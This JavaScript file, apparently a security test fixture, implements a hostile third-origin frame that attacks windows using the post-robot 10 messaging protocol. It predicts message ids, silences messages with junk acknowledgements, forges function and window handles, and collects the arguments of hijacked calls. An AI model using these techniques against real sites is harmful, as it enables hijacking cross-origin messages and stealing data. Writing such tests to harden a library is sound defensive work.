// A frame on a third origin, beside two xwindow windows (its parent and the parent's partner
// frame), that attacks them with nothing but post-robot 10's wire. It reads the ids in the
// parent's (or the partner's) answer to a hello, guesses the ones that window used before and
// will use next, and sends messages or handles carrying them. window.hostile has the attacks;
// every call of one of its functions that reaches it is kept in hostile.stolen, and reported to
// the parent page as a plain (non post-robot) message {stolen: ...}.
(function () {
  var KEY = '__post_robot_10_0_46__';
  var serial = 0;
  var waiting = {};

  function envelope(messages) {
    var out = {};
    out[KEY] = messages;
    return JSON.stringify(out);
  }

  function base(type, hash, name) {
    return { id: 'hostile_' + (++serial), origin: location.origin, type: type, hash: hash, name: name };
  }

  /** Sends request name with data to win; then(messages) gets the post holding the answer. */
  function ask(win, name, data, then) {
    var request = base('postrobot_message_request', name + '_hostile_' + serial, name);
    request.data = data;
    request.fireAndForget = false;
    waiting[request.hash] = then;
    win.postMessage(envelope([request]), '*');
  }

  /** Acknowledges and answers a call of one of our "functions", as post-robot 10 would. */
  function answerCall(source, call) {
    var ack = base('postrobot_message_ack', call.hash, call.name);
    var response = base('postrobot_message_response', call.hash, call.name);
    response.ack = 'success';
    response.data = { result: 'taken by the hostile frame', id: call.data.id, name: call.data.name };
    response.error = { __type__: 'undefined' };
    source.postMessage(envelope([ack, response]), '*');
  }

  window.addEventListener('message', function (event) {
    if (event.data && event.data.leaked) {
      hostile.leaked.push(event.data.leaked);
      return;
    }
    if (typeof event.data !== 'string' || event.data.indexOf('{"' + KEY + '"') !== 0) {
      return;
    }
    var messages = JSON.parse(event.data)[KEY];
    for (var i = 0; i < messages.length; i++) {
      var message = messages[i];
      hostile.ids.push(message.id);
      if (message.type === 'postrobot_message_response' && waiting[message.hash]) {
        var then = waiting[message.hash];
        delete waiting[message.hash];
        then(messages);
      } else if (message.type === 'postrobot_message_request' && message.name === 'postrobot_method') {
        hostile.stolen.push(message.data.args);
        window.parent.postMessage({ stolen: JSON.stringify(message.data.args) }, '*');
        answerCall(event.source, message);
      }
    }
  });

  /**
   * What the ids of a window's post reveal when they are uid_<prefix>_<counter>: the prefix and
   * the highest counter. Ids that do not end in a counter give the id itself and 0: the attack
   * then runs with guesses that name nothing.
   */
  function learn(messages) {
    var seen = { prefix: null, last: 0 };
    for (var i = 0; i < messages.length; i++) {
      var id = String(messages[i].id);
      var parts = /^(.*_)(\d+)$/.exec(id) || [id, id + '_', '0'];
      seen.prefix = parts[1];
      seen.last = Math.max(seen.last, parseInt(parts[2], 10));
    }
    return seen;
  }

  function functionHandle(id, name) {
    return { __type__: 'cross_domain_function', __val__: { id: id, name: name } };
  }

  /** A window as post-robot 10 sends one, with id, whose every method calls this frame. */
  function windowHandle(id) {
    var methods = { id: id };
    var names = ['getType', 'getInstanceID', 'close', 'getName', 'focus', 'isClosed', 'setLocation', 'setName'];
    for (var i = 0; i < names.length; i++) {
      methods[names[i]] = functionHandle('hostile_' + names[i], names[i]);
    }
    return { __type__: 'cross_domain_window', __val__: methods };
  }

  var hostile = {
    stolen: [],
    /** The id of every post-robot message that reached this frame. */
    ids: [],
    /** Ids another frame leaked to this one, as a plain message {leaked: id}. */
    leaked: [],

    /** Says hello to win count times at once; done() once every answer came. */
    collectIds: function (win, count, done) {
      var answered = 0;
      for (var i = 0; i < count; i++) {
        ask(win, 'postrobot_hello', { instanceID: 'hostile' }, function () {
          if (++answered === count) {
            done();
          }
        });
      }
    },

    /**
     * Silences the parent's next messages to the partner: posts the partner count acks (junk)
     * carrying the ids the parent will use next; done() once the partner has read them (it
     * answers a hello posted after them).
     */
    silence: function (parent, partner, count, done) {
      ask(parent, 'postrobot_hello', { instanceID: 'hostile' }, function (answer) {
        var seen = learn(answer);
        var junk = [];
        for (var i = 1; i <= count; i++) {
          var ack = base('postrobot_message_ack', 'junk', 'junk');
          ack.id = seen.prefix + (seen.last + i);
          junk.push(ack);
        }
        partner.postMessage(envelope(junk), '*');
        ask(partner, 'postrobot_hello', { instanceID: 'hostile' }, function () { done(); });
      });
    },

    /**
     * Asks the parent to relay (request relayName) function handles that carry every id the
     * parent has used so far, each named name; done() once the parent has relayed them.
     */
    relayParentIds: function (parent, relayName, name, done) {
      ask(parent, 'postrobot_hello', { instanceID: 'hostile' }, function (answer) {
        var seen = learn(answer);
        var ids = [];
        for (var i = 0; i <= seen.last; i++) {
          ids.push(seen.prefix + i);
        }
        hostile.relayHandles(parent, relayName, ids, name, done);
      });
    },

    /**
     * Asks the parent to relay (request relayName) function handles carrying ids, each named
     * name; done() once the parent has relayed them.
     */
    relayHandles: function (parent, relayName, ids, name, done) {
      var handles = [];
      for (var i = 0; i < ids.length; i++) {
        handles.push(functionHandle(ids[i], name));
      }
      ask(parent, relayName, { handles: handles }, function () { done(); });
    },

    /**
     * Sends the parent (request relayName) count windows that carry the ids the partner will
     * use next; done() once the parent has taken them.
     */
    claimPartnerWindowIds: function (parent, partner, relayName, count, done) {
      ask(partner, 'postrobot_hello', { instanceID: 'hostile' }, function (answer) {
        var seen = learn(answer);
        var windows = [];
        for (var i = 1; i <= count; i++) {
          windows.push(windowHandle(seen.prefix + (seen.last + i)));
        }
        ask(parent, relayName, { windows: windows }, function () { done(); });
      });
    }
  };
  window.hostile = hostile;
})();
